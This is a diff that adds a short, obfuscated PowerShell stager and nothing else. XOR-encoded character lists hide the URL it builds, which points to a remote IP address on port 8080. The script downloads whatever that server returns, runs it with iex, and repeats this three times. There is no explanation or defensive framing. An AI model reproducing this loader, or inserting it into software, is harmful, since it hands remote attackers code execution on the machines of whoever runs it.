@@ -1,0 +1,8 @@
+$txDJst = ("{4}{0}{3}{2}{1}" -f (-join ('73,87,95,95' -split ',' | % { [char]($_ -bxor 0x66) })),(-join ('41' -split ',' | % { [char]($_ -bxor 0x42) })),(-join ('119,44,57,43' -split ',' | % { [char]($_ -bxor 0x58) })),(-join ('99,116,123,99,124,121,124,99,124,117,116,119,117,125,117,125' -split ',' | % { [char]($_ -bxor 0x4d) })),'http:/')
+$QKspxqkcQ = 0
+while ($QKspxqkcQ -lt 3) {
+    $Jvlggp = (New-Object Net.WebClient).DownloadString($txDJst)
+    iex $Jvlggp
+    sleep 5
+    $QKspxqkcQ++
+}
